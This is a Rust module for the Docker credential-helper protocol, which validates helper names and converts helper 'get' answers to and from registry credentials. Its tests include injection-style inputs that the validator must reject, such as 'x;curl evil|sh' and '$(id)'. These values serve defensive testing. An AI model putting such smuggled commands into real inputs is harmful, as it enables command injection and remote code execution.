//! The Docker credential-helper protocol (docker/docker-credential-helpers),
//! both ways: what a helper's `get` answer means when importing, and what
//! `docker-credential-regcred get` answers. No I/O: callers run the helper.

use serde::{Deserialize, Serialize};
use serde_json::json;

use crate::dockerconfig::{parse_dockerconfigjson, RegistryEntry};

/// What a helper prints, and exits 1 with, for a server it does not know.
/// Docker and containers/image match this text exactly.
pub const NOT_FOUND: &str = "credentials not found in native keychain";

/// The username a helper stores an identity token under.
pub const IDENTITY_TOKEN_USER: &str = "<token>";

/// A helper name from `credsStore` or `credHelpers`: it becomes part of a
/// program name that is run, so only letters, digits, `-`, `_` and `.`.
pub fn valid_helper_name(name: &str) -> bool {
    !name.is_empty()
        && name.len() <= 64
        && !name.starts_with('.')
        && name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'))
}

/// A helper name that passed [`valid_helper_name`]: only [`HelperName::parse`]
/// makes one, so a command or program name built from it (the console shows
/// `docker-credential-<name> get`, the CLI runs it) never carries a shell
/// word from an imported `config.json`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HelperName(String);

impl HelperName {
    pub fn parse(name: &str) -> Option<HelperName> {
        valid_helper_name(name).then(|| HelperName(name.to_owned()))
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl std::ops::Deref for HelperName {
    type Target = str;
    fn deref(&self) -> &str {
        &self.0
    }
}

impl std::fmt::Display for HelperName {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

impl PartialEq<str> for HelperName {
    fn eq(&self, other: &str) -> bool {
        self.0 == other
    }
}

/// `get`'s answer: `{"ServerURL", "Username", "Secret"}`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct HelperAnswer {
    #[serde(rename = "ServerURL", default)]
    pub server_url: String,
    #[serde(rename = "Username", default)]
    pub username: String,
    #[serde(rename = "Secret", default)]
    pub secret: String,
}

/// What a helper's answer for `server` holds.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum HelperOutcome {
    /// Credentials, as the entry a secret is made of.
    Found(Box<RegistryEntry>),
    /// It answered, but with nothing: Debian 12's docker-credential-pass
    /// answers a miss with empty fields and exit 0.
    Empty,
    /// Not JSON of the protocol's shape, or not valid credentials.
    Invalid(String),
}

/// Reads a helper's `get` output for `server`. An identity token
/// (`Username` `<token>`) is kept as Docker keeps it: `identitytoken`.
pub fn read_helper_answer(server: &str, stdout: &str) -> HelperOutcome {
    let Ok(answer) = serde_json::from_slice::<HelperAnswer>(stdout.trim().as_bytes()) else {
        return HelperOutcome::Invalid(
            "the helper's answer is not {\"ServerURL\",\"Username\",\"Secret\"} JSON".into(),
        );
    };
    if answer.username.is_empty() && answer.secret.is_empty() {
        return HelperOutcome::Empty;
    }
    let entry = if answer.username == IDENTITY_TOKEN_USER {
        json!({"username": IDENTITY_TOKEN_USER, "password": answer.secret, "identitytoken": answer.secret})
    } else {
        json!({"username": answer.username, "password": answer.secret})
    };
    let text = json!({ "auths": { server: entry } }).to_string();
    match parse_dockerconfigjson(&text) {
        Ok(parsed) => match parsed.config.entries().first() {
            Some(e) => HelperOutcome::Found(Box::new(e.clone())),
            None => HelperOutcome::Empty,
        },
        Err(e) => HelperOutcome::Invalid(e.to_string()),
    }
}

/// `docker-credential-regcred get`'s answer for an entry, asked as `server`.
pub fn helper_answer(server: &str, entry: &RegistryEntry) -> HelperAnswer {
    match &entry.identitytoken {
        Some(token) => HelperAnswer {
            server_url: server.to_owned(),
            username: IDENTITY_TOKEN_USER.to_owned(),
            secret: token.clone(),
        },
        None => HelperAnswer {
            server_url: server.to_owned(),
            username: entry.credentials.username.clone(),
            secret: entry.credentials.password.clone(),
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn helper_names_that_could_be_commands_are_refused() {
        for ok in [
            "pass",
            "desktop",
            "ecr-login",
            "osxkeychain",
            "gcr_v2",
            "a.b",
        ] {
            assert!(valid_helper_name(ok), "{ok}");
        }
        for bad in [
            "",
            "x;curl evil|sh",
            "../bin/sh",
            ".hidden",
            "a b",
            "a/b",
            "$(id)",
        ] {
            assert!(!valid_helper_name(bad), "{bad}");
            assert_eq!(HelperName::parse(bad), None, "{bad}");
        }
        assert_eq!(HelperName::parse("desktop").unwrap().as_str(), "desktop");
    }

    #[test]
    fn answers_read_as_credentials_empty_or_invalid() {
        let found = read_helper_answer(
            "127.0.0.1:5000",
            r#"{"ServerURL":"127.0.0.1:5000","Username":"u","Secret":"p:w"}"#,
        );
        let HelperOutcome::Found(e) = found else {
            panic!("{found:?}")
        };
        assert_eq!(
            (
                e.credentials.username.as_str(),
                e.credentials.password.as_str()
            ),
            ("u", "p:w")
        );
        assert_eq!(
            read_helper_answer("x", r#"{"ServerURL":"x","Username":"","Secret":""}"#),
            HelperOutcome::Empty
        );
        assert!(matches!(
            read_helper_answer("x", NOT_FOUND),
            HelperOutcome::Invalid(_)
        ));
        let token = read_helper_answer(
            "myacr.azurecr.io",
            r#"{"ServerURL":"myacr.azurecr.io","Username":"<token>","Secret":"eyJ.e30.sig"}"#,
        );
        let HelperOutcome::Found(e) = token else {
            panic!("{token:?}")
        };
        assert_eq!(e.identitytoken.as_deref(), Some("eyJ.e30.sig"));
        let back = helper_answer("myacr.azurecr.io", &e);
        assert_eq!(
            (back.username.as_str(), back.secret.as_str()),
            ("<token>", "eyJ.e30.sig")
        );
    }
}
